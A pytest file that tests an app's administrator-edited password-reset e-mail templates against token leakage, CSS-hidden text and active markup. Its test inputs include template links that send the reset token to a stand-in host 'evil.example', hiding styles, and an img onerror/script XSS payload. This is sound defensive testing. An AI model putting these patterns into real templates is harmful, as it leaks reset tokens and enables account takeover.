"""E-mail texts that administrators write."""

import pytest
from support.admin_site import AdminSite
from support.live import Server, Service

pytestmark = [pytest.mark.servers, pytest.mark.xdist_group("reports")]

PASSWORD = "correct horse battery"  # noqa: S105 - of users that the tests create
EDITOR = "editor@example.com"


@pytest.fixture
def editor(live_server: Server) -> AdminSite:
    live_server.service.shell(
        "from apps.user.models import User\n"
        f"if not User.objects.filter(email={EDITOR!r}).exists():\n"
        f"    User.objects.create_superuser({EDITOR!r}, {PASSWORD!r}, first_name='E', last_name='D')"
    )
    site = AdminSite(live_server)
    assert site.log_in(EDITOR, PASSWORD).status == 302
    return site


def text(html: str, **fields: str) -> dict[str, str]:
    own = {"kind": "reset_password", "language": "en", "subject": "Ours", "is_active": "on"}
    return own | {"html": html} | fields


def render(service: Service, html: str) -> dict[str, str]:
    """Store a text without the form's validation, as an older release did, and render it."""
    rendered: dict[str, str] = service.shell(
        "from apps.communication.kinds import get_kind\n"
        "from apps.communication.models import EmailTemplate\n"
        "from apps.communication.rendering import render_email\n"
        "EmailTemplate.objects.filter(language='en').delete()\n"
        "row = {'kind': 'reset_password', 'language': 'en', 'subject': 'Ours'}\n"
        "EmailTemplate.objects.bulk_create([EmailTemplate(**row, html="
        f"{html!r})])\n"
        "kind = get_kind('reset_password')\n"
        "result = render_email(kind, 'en', kind.placeholders)._asdict()\n"
        "EmailTemplate.objects.filter(language='en').delete()"
    )
    return rendered


# https://github.com/janavipandole/Cara/issues/6159: a reset token is sent to another server.
@pytest.mark.parametrize(
    "html",
    [
        '<a href="https://evil.example/?{{ reset_url }}">x</a> <a href="{{ reset_url }}">y</a>',
        '<a href="https://evil.example/?%7B%7Breset_url%7D%7D">x</a>',
        "<p>https://evil.example/?{{ reset_url }}</p>",
        '<a href="{{ reset_url }}.evil.example">x</a>',
    ],
)
def test_a_link_placeholder_is_not_sent_to_another_server(
    live_server: Server, editor: AdminSite, html: str
) -> None:
    page = editor.post("communication/emailtemplate/add/", **text(html))
    assert (page.status, "Misplaced: reset_url." in page.text) == (200, True)
    rendered = render(live_server.service, html)
    assert rendered["subject"] == "Reset your password"
    assert "evil.example" not in rendered["html"] + rendered["text"]


# https://github.com/xberg-io/html-to-markdown/issues/468: font-size:0 is as hidden as display:none.
# https://github.com/ryaker/outlook-mcp/pull/35: so is a size of zero, or white text on white.
@pytest.mark.parametrize(
    "style",
    ["display:none", "font-size:0px", "opacity:0", "height:0;overflow:hidden", "color:#fff"],
)
def test_text_that_a_style_hides_is_sent_visibly(sqlite_service: Service, style: str) -> None:
    html = f'<p style="{style}">hidden</p><a href="{{{{ reset_url }}}}">x</a>'
    rendered = render(sqlite_service, html)
    assert rendered["subject"] == "Ours"
    assert "<p>hidden</p>" in rendered["html"]


# https://github.com/Ark-Aak/cp-oauth/issues/20: markup of an administrator in every e-mail.
def test_active_content_is_not_sent(sqlite_service: Service) -> None:
    html = '<img src=x onerror="alert(1)"><script>x</script><a href="{{ reset_url }}">x</a>'
    rendered = render(sqlite_service, html)
    assert rendered["subject"] == "Ours"
    assert not [word for word in ("onerror", "<script", "<img") if word in rendered["html"]]
